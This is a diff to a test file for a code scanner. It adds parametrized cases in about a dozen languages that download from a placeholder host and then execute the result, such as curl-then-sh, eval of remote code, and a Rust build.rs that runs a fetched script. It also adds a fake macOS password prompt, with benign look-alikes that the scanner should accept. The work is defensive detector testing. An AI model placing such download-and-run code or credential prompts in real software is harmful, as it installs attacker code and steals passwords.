@@ -160,3 +160,72 @@ def test_attack_programs_of_these_languages_take_linear_steps(suffix, unit):
 
     work(100)()
     assert steps(work(400)) < 5 * steps(work(100))
+
+
+FETCHED_AND_RUN = [
+    (
+        "a.go",
+        'r, _ := http.Get("https://c.invalid/u")\nb, _ := io.ReadAll(r.Body)\nos.WriteFile("/tmp/u", b, 0755)\nexec.Command("/tmp/u").Run()',
+    ),
+    (
+        "a.go",
+        'r, _ := http.Get("https://c.invalid/u")\nb, _ := io.ReadAll(r.Body)\nexec.Command("sh", "-c", string(b)).Run()',
+    ),
+    (
+        "build.rs",
+        'let s = ureq::get("https://c.invalid/u").call().unwrap().into_string().unwrap();\nCommand::new("sh").arg("-c").arg(s).spawn();',
+    ),
+    (
+        "a.rs",
+        'let b = reqwest::blocking::get("https://c.invalid/u").unwrap().bytes().unwrap();\nstd::fs::write("/tmp/u", &b);\nCommand::new("/tmp/u").spawn();',
+    ),
+    ("a.lua", 'local http = require("socket.http")\nlocal b = http.request("https://c.invalid/u.lua")\nload(b)()'),
+    (
+        "a.swift",
+        'let d = try! Data(contentsOf: URL(string: "https://c.invalid/u")!)\ntry! d.write(to: URL(fileURLWithPath: "/tmp/u"))\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/tmp/u")',
+    ),
+    (
+        "A.java",
+        'Files.copy(new URL("https://c.invalid/u").openStream(), Path.of("/tmp/u"));\nRuntime.getRuntime().exec("/tmp/u");',
+    ),
+    ("a.pl", 'use LWP::Simple;\nmy $c = get("https://c.invalid/u");\neval $c;'),
+    (
+        "a.pl",
+        'my $r = HTTP::Tiny->new->get("https://c.invalid/u");\nopen(my $f, ">", "/tmp/u");\nprint $f $r->{content};\nsystem("sh /tmp/u");',
+    ),
+    ("a.php", '<?php file_put_contents("/tmp/u", file_get_contents("https://c.invalid/u")); system("sh /tmp/u");'),
+    ("a.rb", 'require "open-uri"\neval URI.open("https://c.invalid/u").read'),
+    *(
+        (path, call % "curl -s https://c.invalid/u -o /tmp/u && sh /tmp/u")
+        for path, call in (
+            ("a.py", "import os\nos.system('%s')"),
+            ("a.py", "import subprocess\nsubprocess.run(f'%s', shell=True)"),
+            ("a.js", "require('child_process').execSync('%s')"),
+            ("a.rb", "system '%s'"),
+            ("a.pl", "system('%s');"),
+            ("a.lua", "os.execute('%s')"),
+            ("a.applescript", 'do shell script "%s"'),
+        )
+    ),
+    ("a.py", "import os\nos.system('curl -o /tmp/u https://c.invalid/u')\nos.system('sh /tmp/u')"),
+    ("a.applescript", 'display dialog "macOS needs your password" default answer "" with hidden answer'),
+]
+NOT_RUN = [
+    ("a.go", 'r, err := http.Get("https://c.invalid/u")\nif err != nil { return err }\nout, err := exec.Command("git", "status").Output()'),
+    ("a.go", 'c, _ := http.Get(k)\nif c.Eval(tags) { cmd := exec.Command(os.Args[0], c.Name) }'),
+    ("a.rs", 'let b = reqwest::blocking::get("https://c.invalid/u").unwrap();\nstd::fs::write("data.json", &b);\nCommand::new("git").arg("status").spawn();'),
+    ("a.lua", 'local http = require("socket.http")\nprint(http.request("https://c.invalid/u"))\nos.execute("ls")'),
+    ("a.py", "import subprocess\nsubprocess.run('curl -o data.json https://c.invalid/u && wc -l data.json', shell=True)"),
+    ("a.java", 'var in = new URL("https://c.invalid/u").openStream();\nRuntime.getRuntime().exec("git status");'),
+    ("a.applescript", 'display dialog "Your name?" default answer ""'),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("path", "text"), FETCHED_AND_RUN)
+def test_attack_programs_of_other_languages_that_fetch_and_run_are_found(path, text):
+    assert seen({path: text})
+
+
+@pytest.mark.parametrize(("path", "text"), NOT_RUN)
+def test_programs_of_other_languages_that_fetch_or_run_are_accepted(path, text):
+    assert not seen({path: text})
